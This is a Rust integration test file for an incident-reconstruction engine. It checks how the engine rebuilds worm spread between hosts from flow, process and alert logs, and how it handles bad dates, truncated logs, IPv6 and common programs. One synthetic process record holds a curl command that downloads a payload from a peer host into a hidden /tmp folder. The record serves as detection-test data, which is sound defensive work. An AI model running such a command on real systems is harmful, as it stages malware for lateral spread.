//! Simulated incidents against their truth, and what bad input comes to.
#![allow(clippy::unwrap_used, reason = "helpers of tests")]

mod common;

use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use ringleader_engine::Config;
use ringleader_engine::assemble::Known;
use ringleader_engine::collect::Quiet;
use ringleader_engine::score::incident::score;
use ringleader_engine::simulate::incident::{self, Worm};
use ringleader_engine::sources::Input;
use ringleader_model::Rows;
use ringleader_model::findings::{EdgeClass, Findings, Spread, Verdict};
use ringleader_pipeline::label::episode::Knowledge;
use ringleader_pipeline::reconstruct::{Question, Rules};

fn findings(inputs: &[PathBuf]) -> (Findings, Rows) {
    static KNOWLEDGE: OnceLock<Knowledge> = OnceLock::new();
    let knowledge = KNOWLEDGE.get_or_init(Knowledge::built_in);
    let inputs: Vec<Input> = inputs.iter().cloned().map(Input::Path).collect();
    let config = Config { collect: common::collect_config(2, 256 << 20), processes: false, known: Known::default() };
    let mut rows = Rows::default();
    let (question, rules) = (Question::default(), Rules::built_in());
    let run =
        ringleader_engine::spread::spread(&inputs, knowledge, &config, &question, &rules, &Quiet, &mut rows).unwrap();
    (run.findings, rows)
}

fn spread(dir: &Path) -> Spread {
    findings(&[dir.to_owned()]).0.spread.unwrap()
}

fn write(dir: &Path, files: &[(&str, &str)]) {
    for (name, text) in files {
        let path = dir.join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
}

fn verdict(spread: &Spread, host: &str) -> Option<Verdict> {
    spread.hosts.iter().find(|it| &*it.host == host).map(|it| it.verdict)
}

/// Far below what docs/incident-measured.md has: a change that breaks something shows here.
#[test]
fn simulated_incidents_are_reconstructed() {
    for (worm, missing) in [(Worm::Smb, 0), (Worm::Ssh, 0), (Worm::Redis, 0), (Worm::Smb, 600), (Worm::Ssh, 600)] {
        let dir = tempfile::tempdir().unwrap();
        let (case, truth, out) = (dir.path().join("case"), dir.path().join("t.tsv"), dir.path().join("out"));
        let config = incident::Config { missing_permille: missing, ..incident::Config::new(41, 60, worm) };
        incident::write(&config, &case, Some(&truth)).unwrap();
        let (found, rows) = findings(std::slice::from_ref(&case));
        std::fs::create_dir(&out).unwrap();
        std::fs::write(out.join("spread.json"), &common::written(&found, &rows)["spread.json"]).unwrap();
        let score = score(&truth, &out, Some(&case)).unwrap();
        let (ours, naive) = (&score.findings, score.baseline.as_ref().unwrap());
        let least = if missing == 0 { 0.85 } else { 0.6 };
        assert!(ours.edge_macro_f1.unwrap() > least, "{worm:?} {missing}: {ours:#?}");
        assert!(ours.host_macro_f1.unwrap() > least, "{worm:?} {missing}: {ours:#?}");
        assert!(naive.edge_macro_f1.unwrap() < ours.edge_macro_f1.unwrap());
        assert_eq!(ours.clean_without_telemetry, 0, "{worm:?} {missing}");
    }
}

const HEAD: &str = "time,src_ip,src_port,dst_ip,dst_port,protocol,state,bytes\n";

fn process(time: &str, host: &str, path: &str, command: &str) -> String {
    let (path, command) = (path.replace('\\', "\\\\"), command.replace('\\', "\\\\"));
    format!(
        "{{\"time\":\"{time}\",\"host\":\"{host}\",\"file_path\":\"{path}\",\"cmd_line\":\"{command}\",\"pid\":7,\"ppid\":4,\"parent\":\"x\"}}\n"
    )
}

#[test]
fn dates_that_cannot_be_are_told_and_lose_nothing_else() {
    let dir = tempfile::tempdir().unwrap();
    let flows = format!(
        "{HEAD}2018-09-31 01:05:00,10.0.0.1,50001,10.0.0.9,445,tcp,SF,90000\n2018-09-30 01:05:00,10.0.0.1,50001,10.0.0.2,445,tcp,SF,90000\n"
    );
    let processes = process("2018-09-30 01:00:00", "10.0.0.1", "C:\\x\\y\\bad.exe", "bad.exe")
        + &process("2018-09-30 01:05:20", "10.0.0.2", "C:\\x\\y\\bad.exe", "bad.exe")
        + &process("2018-02-30 01:05:20", "10.0.0.7", "C:\\x\\y\\bad.exe", "bad.exe");
    let alerts = "time,host_ip,alert_name,file_path\n2018-09-31 01:10:00,10.0.0.1,Trojan,C:\\x\\y\\bad.exe\n";
    write(dir.path(), &[("flows.csv", &flows), ("p.ndjson", &processes), ("alerts.csv", alerts)]);
    let (found, _) = findings(&[dir.path().to_owned()]);
    let spread = found.spread.unwrap();
    assert_eq!(found.summary.events_rejected, 3);
    assert!(spread.discrepancies.iter().any(|it| &*it.kind == "undated_alert"));
    assert_eq!(verdict(&spread, "10.0.0.2"), Some(Verdict::Compromised));
    assert_eq!(verdict(&spread, "10.0.0.9"), None);
    assert_eq!(verdict(&spread, "10.0.0.7"), None);
}

#[test]
fn half_a_log_of_the_malware_says_half() {
    let dir = tempfile::tempdir().unwrap();
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fixtures/incident");
    let whole = std::fs::read(fixtures.join("artefacts/192.168.0.4/stage2.txt")).unwrap();
    // Within a line, so that its address is cut.
    let half = whole.len() / 2;
    let folder = dir.path().join("192.168.0.4");
    std::fs::create_dir_all(&folder).unwrap();
    std::fs::write(folder.join("stage2.txt"), &whole[..half]).unwrap();
    let spread = spread(dir.path());
    let targets: Vec<&str> = spread.edges.iter().map(|it| &*it.to).collect();
    assert_eq!(verdict(&spread, "192.168.0.4"), Some(Verdict::Compromised), "{:?}", spread.hosts);
    let text = String::from_utf8_lossy(&whole);
    // No address that the whole file does not have.
    assert!(
        !targets.is_empty()
            && targets.iter().all(|it| text.contains(&format!("{it} "))
                || text.contains(&format!("{it}:"))
                || text.contains(&format!("{it}\n"))
                || text.contains(&format!("{it}\r"))),
        "{targets:?}"
    );
}

#[test]
fn a_worm_over_ipv6_is_the_same_worm() {
    let dir = tempfile::tempdir().unwrap();
    let mut flows = String::from(HEAD);
    for n in 2..9 {
        flows.push_str(&format!("2018-09-30 01:05:0{n},fd00::1,50001,fd00:0:0::{n},22,tcp,S0,0\n"));
    }
    flows.push_str("2018-09-30 01:06:00,fd00::1,50002,FD00::2,22,tcp,SF,90000\n");
    flows.push_str("2018-09-30 01:07:00,::ffff:10.0.0.5,50002,10.0.0.6,22,tcp,SF,90000\n");
    let processes = process("2018-09-30 01:00:00", "fd00::1", "/tmp/.x/bad", "/tmp/.x/bad")
        + &process("2018-09-30 01:06:09", "fd00::2", "/bin/sh", "sh -c curl http://[fd00::1]:9000/a -o /tmp/.x/bad")
        + &process("2018-09-30 01:06:10", "fd00::2", "/tmp/.x/bad", "/tmp/.x/bad");
    let alerts = "time,host,host_ip,alert_name,file_path\n2018-09-30 01:10:00,,fd00::1,Trojan,/tmp/.x/bad\n";
    write(dir.path(), &[("flows.csv", &flows), ("p.ndjson", &processes), ("alerts.csv", alerts)]);
    let spread = spread(dir.path());
    let edge = spread.edges.iter().find(|it| it.class == EdgeClass::Compromised).unwrap();
    assert_eq!((&*edge.from, &*edge.to), ("fd00::1", "fd00::2"));
    assert!(edge.reasons.iter().any(|it| &*it.rule == "fetched"), "{:?}", edge.reasons);
    assert_eq!(spread.edges.iter().filter(|it| it.class == EdgeClass::Scanned).count(), 6);
    assert_eq!(verdict(&spread, "fd00::8"), Some(Verdict::Scanned));
    assert!(spread.hosts.iter().all(|it| !it.host.contains("ffff")), "a mapped address is the address");
}

#[test]
fn an_alert_of_what_everybody_runs_makes_nobody_taken() {
    let dir = tempfile::tempdir().unwrap();
    let mut processes = String::new();
    for hour in 0..6 {
        for host in 1..9 {
            let time = format!("2018-09-30 0{hour}:0{host}:00");
            processes += &process(&time, &format!("10.0.0.{host}"), "/opt/tool/collect", "collect --once");
        }
    }
    let alerts = "time,host_ip,alert_name,file_path\n2018-09-30 04:00:00,10.0.0.3,Unwanted program,/opt/tool/collect\n";
    write(dir.path(), &[("p.ndjson", &processes), ("alerts.csv", alerts)]);
    let spread = spread(dir.path());
    assert!(spread.hosts.iter().all(|it| it.verdict != Verdict::Compromised), "{:?}", spread.hosts);
    assert_eq!(verdict(&spread, "10.0.0.3"), Some(Verdict::AlertedOnly));
    assert!(spread.discrepancies.iter().any(|it| &*it.kind == "everyday_program"));
}
